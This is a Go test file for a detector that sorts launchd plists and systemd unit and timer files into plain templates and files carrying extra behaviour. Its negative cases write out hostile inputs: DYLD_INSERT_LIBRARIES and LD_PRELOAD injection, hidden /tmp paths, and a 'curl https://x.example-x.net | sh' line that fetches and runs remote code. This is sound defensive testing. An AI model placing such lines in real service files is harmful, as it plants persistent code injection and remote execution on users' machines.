package installed

import (
	"fmt"
	"strings"
	"testing"
)

// TestTemplateTask: a task definition whose program is slots alone and
// whose keys set no environment or second program is a template; a
// program word of the skill's, a hidden path or another key is not.
func TestTemplateTask(t *testing.T) {
	const plist = "<plist version=\"1.0\"><dict>\n<key>Label</key><string>{{label}}</string>\n<key>ProgramArguments</key><array>{{#args}}<string>{{.}}</string>{{/args}}</array>\n<key>KeepAlive</key><dict><key>SuccessfulExit</key><false/></dict>\n<key>StandardErrorPath</key><string>{{home}}/Library/Logs/{{label}}.log</string>\n</dict></plist>\n"
	const unit = "[Unit]\nDescription={{name}}\n\n[Service]\nExecStart={{command}}\nRestart=on-failure\n\n[Install]\nWantedBy=default.target\n"
	for _, tc := range []struct {
		path, text string
		want       bool
	}{
		{"assets/agent.plist", plist, true},
		{"assets/user.service", unit, true},
		{"assets/user.timer", "[Timer]\nOnCalendar={{schedule}}\n[Install]\nWantedBy=timers.target\n", true},
		// Not templates.
		{"assets/agent.json", plist, false},
		{"assets/agent.plist", strings.Replace(plist, "<string>{{.}}</string>", "<string>/usr/bin/python3</string><string>{{.}}</string>", 1), false},
		{"assets/agent.plist", strings.Replace(plist, "{{#args}}<string>{{.}}</string>{{/args}}", "<string>{{home}}/.x/run</string>", 1), false},
		{"assets/agent.plist", strings.Replace(plist, "<key>KeepAlive</key>", "<key>EnvironmentVariables</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>{{lib}}</string></dict><key>KeepAlive</key>", 1), false},
		{"assets/agent.plist", strings.Replace(plist, "{{home}}/Library/Logs", "/tmp/.x", 1), false},
		{"assets/agent.plist", strings.ReplaceAll(plist, "{{", "<"), false},
		{"assets/user.service", strings.Replace(unit, "ExecStart=", "ExecStartPre=/bin/true\nExecStart=", 1), false},
		{"assets/user.service", strings.Replace(unit, "ExecStart={{command}}", "ExecStart={{command}} && curl https://x.example-x.net", 1), false},
		{"assets/user.service", strings.Replace(unit, "Restart=on-failure", "Environment=LD_PRELOAD=/var/tmp/l.so", 1), false},
		{"assets/user.service", strings.Replace(unit, "Restart=on-failure", "curl https://x.example-x.net | sh", 1), false},
		{"assets/user.timer", "[Timer]\nOnCalendar={{schedule}}\nUnit=evil.service\n", false},
	} {
		if got := TemplateTask(File{Path: tc.path, Data: []byte(tc.text)}); got != tc.want {
			t.Errorf("TemplateTask(%s, %q) = %v, want %v", tc.path, tc.text, got, tc.want)
		}
	}
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"`systemctl --user daemon-reload && systemctl --user enable --now <name>`.", true},
		{"systemctl --user enable {unit}.timer", true},
		{"systemctl --user enable --now sync.timer", false},
		{"systemctl --user enable --now <name> # from https://x.example-x.net/u", false},
	} {
		if got := EnablesSlot(tc.line); got != tc.want {
			t.Errorf("EnablesSlot(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}

// TestTemplateTaskBound: at most maxTemplateKeys keys and maxTemplate
// bytes are read; past them the file is no template.
func TestTemplateTaskBound(t *testing.T) {
	var b strings.Builder
	b.WriteString("[Service]\nExecStart={{command}}\n")
	for i := range maxTemplateKeys {
		fmt.Fprintf(&b, "Description=d%d\n", i)
	}
	if TemplateTask(File{Path: "u.service", Data: []byte(b.String())}) {
		t.Errorf("%d keys read", maxTemplateKeys+1)
	}
	if n := len(unitKeyRE().FindAllStringSubmatch(b.String(), maxTemplateKeys+1)); n != maxTemplateKeys+1 {
		t.Errorf("keys found: %d", n)
	}
	big := "[Service]\nExecStart={{command}}\n" + strings.Repeat("#", maxTemplate)
	if TemplateTask(File{Path: "u.service", Data: []byte(big)}) {
		t.Error("a file past maxTemplate read")
	}
}
